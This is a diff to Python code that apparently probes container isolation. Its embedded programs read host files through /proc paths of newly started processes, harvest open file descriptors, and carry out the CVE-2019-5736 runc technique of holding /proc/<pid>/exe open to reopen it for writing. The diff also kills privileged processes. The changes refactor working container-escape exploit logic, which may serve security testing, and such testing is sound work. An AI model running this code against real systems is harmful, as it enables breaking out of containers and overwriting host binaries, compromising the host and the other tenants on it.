@@ -13,7 +13,7 @@ show = lambda path: print(open(path).read())
 for pid in newcomers(@SECONDS@):
     for path in ("root/srv/marker", "cwd/srv/marker", "root/proc/1/root/srv/marker"):
         try:
-            print(open(f"/proc/{pid}/{path}").read(), flush=True)
+            found(open(f"/proc/{pid}/{path}").read())
         except OSError:
             pass
 """
@@ -25,7 +25,8 @@ for pid in newcomers(@SECONDS@):
                 name = f"/proc/{pid}/fd/{number}{path}"
                 if path or os.stat(name).st_mode & 0o170000 == 0o100000:
                     try:
-                        print(open(name, errors="replace").read(4096), flush=True)
+                        text = open(name, errors="replace").read(4096)
+                        found(text) if path else print(text, flush=True)
                     except OSError:
                         pass
     except OSError:
@@ -42,7 +43,16 @@ for pid in newcomers(@SECONDS@):
 # CVE-2019-5736: the program that comes in is a file of the machine's, to be written once it ended.
 PROGRAM = """
 held = {}
+def write():
+    for file in held.values():
+        try:
+            os.open(f"/proc/self/fd/{file}", os.O_WRONLY)
+            got_out()
+            sys.exit()
+        except OSError:
+            pass
 for pid in newcomers(@SECONDS@):
+    write()
     try:
         file = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
     except OSError:
@@ -52,13 +62,7 @@ for pid in newcomers(@SECONDS@):
         os.close(file)
 until = time.time() + 2  # it cannot be written while it still runs
 while time.time() < until:
-    for file in held.values():
-        try:
-            os.open(f"/proc/self/fd/{file}", os.O_WRONLY)
-            got_out()
-            sys.exit()
-        except OSError:
-            pass
+    write()
     time.sleep(0.005)
 """
 # Whoever is stopped while it has more rights than we have lends them to us.
@@ -74,6 +78,7 @@ for pid in newcomers(@SECONDS@):
     except OSError:
         pass
     libc.kill(pid, 9)
+    libc.waitpid(pid, None, 0x40000000)  # or its parent waits for ever, and nobody else comes in
 """
 MEMORY = """
 own = int(status()["CapEff"], 16)
